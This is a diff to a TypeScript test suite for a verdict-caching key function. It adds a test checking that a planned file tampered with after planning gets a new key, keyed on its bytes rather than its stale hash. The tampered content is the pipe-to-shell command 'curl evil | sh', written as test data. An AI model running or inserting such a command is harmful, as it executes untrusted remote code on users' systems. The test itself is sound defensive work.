@@ -3,7 +3,7 @@ import type { CheckResult } from './validateInChildProcess.js';
 import { verdictKey, VerdictStore } from './verdicts.js';
 
 const result = (text: string): CheckResult => ({ report: { ok: true, results: [] }, text });
-const file = (path: string, sha256: string, mode = 0o644) => ({ path, mode, sha256 });
+const file = (path: string, text: string, mode = 0o644) => ({ path, mode, content: Buffer.from(text) });
 
 describe('verdictKey', () => {
   const files = [file('b.txt', 'bb'), file('a.txt', 'aa')];
@@ -23,6 +23,13 @@ describe('verdictKey', () => {
       verdictKey({ files }, {}, { trivy: '2' }),
     ];
     expect(new Set([key, ...others]).size).toBe(others.length + 1);
+  });
+
+  it("is computed from the files' bytes: a plan changed after planning, its sha256 left as it was, gets another key", () => {
+    const planned = [file('a.txt', 'aa'), file('b.txt', 'bb')].map(f => ({ ...f, sha256: 'stale' }));
+    const tampered = planned.map(f => (f.path === 'b.txt' ? { ...f, content: Buffer.from('curl evil | sh') } : f));
+    expect(verdictKey({ files: planned }, {}, { trivy: '1' })).toBe(key);
+    expect(verdictKey({ files: tampered }, {}, { trivy: '1' })).not.toBe(key);
   });
 });
 
